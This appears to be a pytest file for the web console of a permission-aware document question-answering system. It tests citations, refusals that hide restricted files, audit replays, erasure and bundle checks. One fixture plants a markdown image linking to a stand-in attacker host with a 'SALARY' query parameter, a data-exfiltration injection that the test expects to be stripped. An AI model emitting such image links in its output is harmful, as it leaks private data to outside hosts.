"""The pages as people go through them: ask, read, look up the record, repeat it."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Literal

import pytest
from starlette.testclient import TestClient
from tests.entrypoints.console.conftest import Browse, browsing, organisation, put
from tests.entrypoints.console.test_frame import token

import affidavit
from affidavit.app.erasure import Target
from affidavit.offline.verify_affidavit import main

LEAVE = "How many days of annual leave are there a year?"
BONUS = "What is the bonus of managers?"


def ask(client: TestClient, question: str) -> str:
    """Ask by the form; the run."""
    answer = client.post("/ask", data={"csrf": token(client.get("/").text), "question": question})
    assert answer.status_code == 200, answer.text
    return answer.url.path.rpartition("/")[2]


def send(client: TestClient, page: str, path: str, **fields: str) -> str:
    """Send a form of ``page`` to ``path``; what comes back."""
    answer = client.post(path, data={"csrf": token(client.get(page).text), **fields})
    assert answer.status_code == 200, answer.text
    return answer.text


def test_an_answer_has_numbered_citations_that_open_the_document_at_the_passage(browse: Browse) -> None:
    client = browse("alice")
    run = ask(client, LEAVE)
    page = client.get(f"/answers/{run}").text
    assert "25 days" in page
    href = re.search(r'<h3><a href="(/document[^"#]+)#passage"', page)
    assert href
    document = client.get(href[1].replace("&amp;", "&")).text
    marked = re.findall(r"<mark[^>]*>([^<]*)</mark>", document)
    assert "25 days" in "".join(marked)
    assert document.count('id="passage"') == 1
    assert "allow group:staff" in document


def test_a_refusal_says_what_to_do_and_nothing_of_what_is_hidden(browse: Browse) -> None:
    client = browse("alice")
    run = ask(client, BONUS)
    for path in (f"/answers/{run}", f"/runs/{run}", "/runs", "/documents", "/"):
        page = client.get(path).text
        assert "bonus.md" not in page
        assert "percent" not in page
        assert "pay" not in page.replace("payment", "")
    assert "What you can do" in client.get(f"/answers/{run}").text


def test_what_somebody_may_not_read_is_not_there_like_what_never_was(browse: Browse) -> None:
    client = browse("alice")
    hidden = client.get("/document", params={"source": "wiki", "document": "pay/bonus.md"})
    absent = client.get("/document", params={"source": "wiki", "document": "pay/bonuz.md"})
    assert hidden.status_code == absent.status_code == 404
    same = [re.sub(r"run-[a-z2-7]{16}", "", a.text.replace("bonuz", "bonus")) for a in (hidden, absent)]
    assert same[0] == same[1]


def test_a_run_of_another_is_not_there(browse: Browse) -> None:
    run = ask(browse("bob"), BONUS)
    for path in (f"/answers/{run}", f"/runs/{run}", f"/runs/{run}/what-if"):
        assert browse("alice").get(path).status_code == 404
    assert run not in browse("alice").get(f"/verify?run={run}").text


def test_an_auditor_sees_what_was_denied_and_where_the_time_went(browse: Browse) -> None:
    run = ask(browse("alice"), BONUS)
    page = browse("dave").get(f"/runs/{run}").text
    assert "bonus.md" in page
    assert "Where the time went" in page
    assert "Every step" in page


def test_passages_alone_can_be_sought(browse: Browse) -> None:
    page = send(browse("alice"), "/", "/search", question="garage")
    assert "22:00" in page
    assert "start=" in page
    assert "Nothing found" in send(browse("alice"), "/", "/search", question="zeppelin")


def test_runs_can_be_sought_and_leafed_through(browse: Browse) -> None:
    client = browse("alice")
    runs = [ask(client, f"{LEAVE} {i}") for i in range(3)]
    page = client.get("/runs", params={"journey": "ask", "text": "year? 1"}).text
    assert runs[1] in page
    assert runs[0] not in page
    assert "No such run" in client.get("/runs", params={"text": "submarine"}).text
    assert "Nothing has been asked yet" in browse("mallory").get("/runs").text


def test_an_answer_goes_on_from_another(browse: Browse) -> None:
    client = browse("alice")
    first = ask(client, LEAVE)
    page = client.get(f"/answers/{first}").text
    assert f'name="follows" value="{first}"' in page
    form = {"csrf": token(page), "question": "And how many may be carried over?", "follows": first}
    assert client.post("/ask", data=form).status_code == 200


def test_a_replay_is_identical_and_a_counterfactual_stands_side_by_side(
    browse: Browse, acme: affidavit.Workspace
) -> None:
    run = ask(browse("alice"), BONUS)
    acme.people.grant(acme.parts.tenant(""), "user:dave", "audit:replay")
    client = browse("dave")
    assert "Identical" in send(client, f"/runs/{run}", f"/runs/{run}/replay")
    page = send(client, f"/runs/{run}/what-if", f"/runs/{run}/what-if", **{"as": "user:bob"})
    assert "It would be otherwise" in page
    assert re.search(r"<ins>[^<]*15", page)
    assert "<del>" in page
    assert "gained" in page
    explained = send(client, f"/runs/{run}", f"/runs/{run}/explain")
    assert "What did it not see" in explained
    assert "bonus.md" in explained


def test_why_sentences_were_left_out_is_explained(tmp_path: Path) -> None:
    with organisation(tmp_path) as ws, browsing(ws) as browse:
        menu = "# Canteen\n\nThe canteen serves soup at noon.\n\nThe canteen menu: ![ok](https://evil.example/p.png?q=SALARY).\n"
        put(tmp_path / "docs", {"staff/canteen.md": menu})
        ws.sync()
        tenant = ws.parts.tenant("")
        ws.people.grant(tenant, "user:dave", "audit:replay")
        run = ask(browse("alice"), "What does the canteen serve at noon?")
        found = ws.replays.explain(tenant, run, "user:dave")["not_seen"]["left_out"]
        assert found == ["image"]
        page = send(browse("dave"), f"/runs/{run}", f"/runs/{run}/explain")
        assert "left out" in page
        assert "<bdi>image</bdi>" in page


def test_without_the_grant_nobody_replays(browse: Browse) -> None:
    client = browse("alice")
    run = ask(client, LEAVE)
    assert "/replay" not in client.get(f"/runs/{run}").text
    answer = client.post(f"/runs/{run}/replay", data={"csrf": token(client.get("/").text)})
    assert answer.status_code == 403
    assert "audit:replay" in answer.text


def test_the_bundle_of_a_run_is_a_file_that_anyone_can_check(browse: Browse, tmp_path: Path) -> None:
    client = browse("alice")
    run = ask(client, LEAVE)
    answer = client.post(f"/runs/{run}/bundle", data={"csrf": token(client.get("/").text)})
    assert answer.headers["Content-Disposition"].startswith(f'attachment; filename="{run}')
    assert json.loads(answer.content)["run"] == run
    file = tmp_path / "bundle.json"
    file.write_bytes(answer.content)
    assert main([str(file)]) == 0


def test_what_is_not_of_the_form_is_told_so(browse: Browse) -> None:
    client = browse("alice")
    for fields in ({"question": ""}, {"question": "x" * 20_001}, {"question": "a", "as_of": "yesterday"}):
        answer = client.post("/ask", data={"csrf": token(client.get("/").text), **fields})
        assert answer.status_code in (400, 422)
        assert "Back to the start" in answer.text
    assert client.get("/runs/nonsense").status_code == 422
    assert client.get("/runs?since=never").status_code == 400


@pytest.mark.parametrize(
    "query", ["start=-1&end=5", "start=9999999999999999999&end=x", "from=7&start=3&end=1", "start=²&end=5"]
)
def test_any_offset_shows_the_document(browse: Browse, query: str) -> None:
    answer = browse("alice").get(f"/document?source=wiki&document=staff/leave.md&{query}")
    assert answer.status_code == 200


@pytest.mark.parametrize("what", ["run", "document", "person"])
def test_the_record_of_what_was_erased_is_a_page_without_it(
    tmp_path: Path, what: Literal["run", "document", "person"]
) -> None:
    with organisation(tmp_path) as ws, browsing(ws) as browse:
        run = ask(browse("alice"), LEAVE)
        document = "/document?source=wiki&document=staff/leave.md"
        assert browse("alice").get(document).status_code == 200
        read = browse("alice").get("/v1/runs?journey=read").json()["items"][0]["run"]
        subject = {"run": run, "document": "staff/leave.md", "person": "user:alice"}[what]
        ws.erasing.erase(ws.parts.tenant(""), Target(what, subject), "operator:test", "asked for")
        client = browse("dave")
        for path in (
            f"/answers/{run}",
            f"/runs/{run}",
            f"/runs/{read}",
            "/runs",
            f"/verify?run={run}",
            document,
        ):
            answer = client.get(path)
            assert answer.status_code in (200, 404, 410), (path, answer.text)
            gone = what == "document" or (what == "run" and path != document)
            if gone:
                assert "25 days" not in answer.text, path
        for path in ("explain", "replay", "what-if"):
            form = {"csrf": token(client.get("/").text), "as": "user:bob"}
            assert client.post(f"/runs/{run}/{path}", data=form).status_code in (200, 409), path
        assert "were erased" in client.get(f"/runs/{run}").text


def test_a_sync_is_a_run_too(browse: Browse) -> None:
    client = browse("dave")
    run = re.search(r"/runs/(run-[a-z2-7]{16})", client.get("/runs?journey=sync").text)
    assert run
    assert "What the sync brought" in client.get(f"/runs/{run[1]}").text
    assert client.get(f"/answers/{run[1]}").url.path == f"/runs/{run[1]}"
